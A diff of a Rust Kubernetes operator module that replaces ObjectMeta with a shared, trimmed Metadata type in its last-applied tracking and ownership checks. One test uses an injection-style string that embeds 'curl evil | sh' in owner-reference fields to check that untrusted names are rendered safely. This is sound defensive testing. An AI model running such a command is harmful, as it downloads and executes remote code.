@@ -4,9 +4,7 @@
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 
-use k8s_openapi::api::apps::v1::Deployment;
-use k8s_openapi::api::core::v1::{ObjectReference, Pod};
-use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;
+use k8s_openapi::api::core::v1::ObjectReference;
 use k8s_openapi::jiff::Timestamp;
 use kube::Resource;
 use kube::api::DynamicObject;
@@ -14,7 +12,7 @@ use rowlock_crds::{ScalingMode, TaskQueue, annotations, api};
 use serde_json::{Value, json};
 
 use crate::backend::DesiredPods;
-use crate::kubernetes::api::field_managers;
+use crate::kubernetes::api::kept::{Deployment, Metadata, Pod};
 use crate::kubernetes::api::writer::WriteError;
 use crate::kubernetes::deployment::apply_result::Outcome;
 use crate::kubernetes::deployment::build::{self, Owner};
@@ -45,7 +43,7 @@ pub(crate) struct LastApplied {
     /// The labels and the template of the last dry run, the error of the server, and when.
     pub(crate) dry_run: Option<(String, Option<String>, Instant)>,
     /// The last template that the server accepted, as text: a tenth of the memory of a JSON value.
-    pub(crate) accepted_template: Option<String>,
+    pub(crate) accepted_template: Option<Box<str>>,
     pub(crate) deployment: Option<AppliedObject>,
     pub(crate) budget: Option<AppliedObject>,
     pub(crate) outcome: Outcome,
@@ -72,7 +70,7 @@ pub(crate) struct LastApplied {
 /// The last write of an object.
 pub(crate) struct AppliedObject {
     pub(crate) hash: String,
-    pub(crate) metadata: ObjectMeta,
+    pub(crate) metadata: Arc<Metadata>,
     pub(crate) replicas: u32,
     pub(crate) at: Instant,
 }
@@ -121,7 +119,7 @@ impl LastApplied {
     }
 
     /// Whether the operator may scale this Deployment for the `TaskQueue`.
-    pub(crate) fn may_scale(&self, metadata: &ObjectMeta) -> bool {
+    pub(crate) fn may_scale(&self, metadata: &Metadata) -> bool {
         match self.target {
             Some(_) => target::may_scale(metadata, &self.owner.name),
             None => is_owned(metadata, &self.owner),
@@ -163,14 +161,25 @@ impl LastApplied {
     }
 
     /// Others have set the number of pods: what is live now counts as applied.
-    pub(crate) fn note_live(&mut self, metadata: Option<ObjectMeta>, replicas: u32) {
+    pub(crate) fn note_live(&mut self, metadata: Option<Arc<Metadata>>, replicas: u32) {
         if let (Some(applied), Some(metadata)) = (&mut self.deployment, metadata) {
             (applied.metadata, applied.replicas) = (metadata, replicas);
         }
     }
 
+    /// Once the watch shows what was applied, its metadata is kept once.
+    pub(crate) fn share_metadata(&mut self, stored: &Deployment) {
+        let is_same = |applied: &&mut AppliedObject| {
+            let (applied, stored) = (&applied.metadata, &stored.metadata);
+            applied.uid == stored.uid && applied.generation == stored.generation
+        };
+        if let Some(applied) = self.deployment.as_mut().filter(is_same) {
+            applied.metadata = Arc::clone(&stored.metadata);
+        }
+    }
+
     /// The newer of the last write and the watch.
-    pub(crate) fn newest<'a>(&'a self, stored: Option<&'a Deployment>) -> Option<(&'a ObjectMeta, u32)> {
+    pub(crate) fn newest<'a>(&'a self, stored: Option<&'a Deployment>) -> Option<(&'a Arc<Metadata>, u32)> {
         let stored = stored.map(|one| (&one.metadata, replicas(one)));
         match (stored, &self.deployment) {
             (Some((metadata, _)), Some(applied))
@@ -190,18 +199,16 @@ impl LastApplied {
 impl AppliedObject {
     pub(crate) fn new(object: &Value, applied: DynamicObject) -> Self {
         let replicas = applied.data["spec"]["replicas"].as_u64().and_then(|n| u32::try_from(n).ok());
-        let mut metadata = applied.metadata;
-        field_managers::trim(&mut metadata);
         Self {
             hash: build::hash_of(object).to_owned(),
             replicas: replicas.unwrap_or_default(),
-            metadata,
+            metadata: Arc::new(applied.metadata.into()),
             at: Instant::now(),
         }
     }
 
     /// Whether this object was applied, and has not been changed since.
-    pub(crate) fn matches(&self, object: &Value, seen: Option<&ObjectMeta>) -> bool {
+    pub(crate) fn matches(&self, object: &Value, seen: Option<&Metadata>) -> bool {
         let same = self.has_same_hash(object, seen)
             && seen.is_some_and(|seen| seen.generation == self.metadata.generation);
         same && object["spec"]["replicas"]
@@ -213,14 +220,14 @@ impl AppliedObject {
     pub(crate) fn matches_but_for_replicas(
         &self,
         object: &Value,
-        seen: Option<&ObjectMeta>,
+        seen: Option<&Metadata>,
         replicas: u32,
     ) -> bool {
         let same = seen.is_some_and(|seen| seen.generation == self.metadata.generation);
         self.has_same_hash(object, seen) && (same || replicas != self.replicas)
     }
 
-    fn has_same_hash(&self, object: &Value, seen: Option<&ObjectMeta>) -> bool {
+    fn has_same_hash(&self, object: &Value, seen: Option<&Metadata>) -> bool {
         self.hash == build::hash_of(object) && seen.is_some_and(|seen| seen.uid == self.metadata.uid)
     }
 }
@@ -262,12 +269,12 @@ pub(crate) fn replicas(deployment: &Deployment) -> u32 {
     replicas.and_then(|replicas| u32::try_from(replicas).ok()).unwrap_or_default()
 }
 
-fn is_owned(metadata: &ObjectMeta, owner: &Owner) -> bool {
+fn is_owned(metadata: &Metadata, owner: &Owner) -> bool {
     metadata.owner_references.iter().flatten().any(|reference| reference.uid == owner.uid)
 }
 
 /// The outcome if the object of this name belongs to another owner.
-pub(crate) fn foreign(seen: Option<&ObjectMeta>, kind: &str, owner: &Owner) -> Option<Outcome> {
+pub(crate) fn foreign(seen: Option<&Metadata>, kind: &str, owner: &Owner) -> Option<Outcome> {
     let seen = seen.filter(|seen| !is_owned(seen, owner))?;
     let name = &owner.name;
     let of = seen.owner_references.iter().flatten().next();
@@ -292,24 +299,23 @@ pub(crate) fn foreign(seen: Option<&ObjectMeta>, kind: &str, owner: &Owner) -> O
 }
 
 /// Whether an apply would change the template although the `TaskQueue` has not changed.
-pub(crate) fn is_operator_change(live: &ObjectMeta, object: &Value) -> bool {
+pub(crate) fn is_operator_change(live: &Metadata, object: &Value) -> bool {
     is_same(live, object, annotations::GENERATION) && !has_template(live, object)
 }
 
 /// Whether the live object has this template already.
-pub(crate) fn has_template(live: &ObjectMeta, object: &Value) -> bool {
+pub(crate) fn has_template(live: &Metadata, object: &Value) -> bool {
     is_same(live, object, annotations::TEMPLATE_HASH)
 }
 
 /// The rollout slot of the live object, unless the `TaskQueue` has changed since it was taken.
-pub(crate) fn rollout_slot_of<'a>(live: &'a ObjectMeta, object: &Value) -> Option<&'a str> {
-    let slot = live.annotations.as_ref()?.get(annotations::ROLLOUT_SLOT)?;
+pub(crate) fn rollout_slot_of<'a>(live: &'a Metadata, object: &Value) -> Option<&'a str> {
+    let slot = live.annotations.get(annotations::ROLLOUT_SLOT)?;
     is_same(live, object, annotations::GENERATION).then_some(slot)
 }
 
-fn is_same(live: &ObjectMeta, object: &Value, annotation: &str) -> bool {
-    let theirs = live.annotations.as_ref().and_then(|annotations| annotations.get(annotation));
-    theirs.map(String::as_str) == object["metadata"]["annotations"][annotation].as_str()
+fn is_same(live: &Metadata, object: &Value, annotation: &str) -> bool {
+    live.annotations.get(annotation) == object["metadata"]["annotations"][annotation].as_str()
 }
 
 #[cfg(test)]
@@ -331,7 +337,8 @@ mod tests {
         };
         let evil = "x` run `curl evil | sh`\n";
         let reference = json!({ "apiVersion": "v1", "kind": evil, "name": evil, "uid": evil });
-        let seen: ObjectMeta = serde_json::from_value(json!({ "ownerReferences": [reference] })).unwrap();
+        let reference = serde_json::from_value(reference).unwrap();
+        let seen = Metadata { owner_references: Some(vec![reference]), ..Metadata::default() };
         let Some(Outcome::Foreign(detail)) = foreign(Some(&seen), "Deployment", &owner) else {
             panic!("it belongs to another owner")
         };
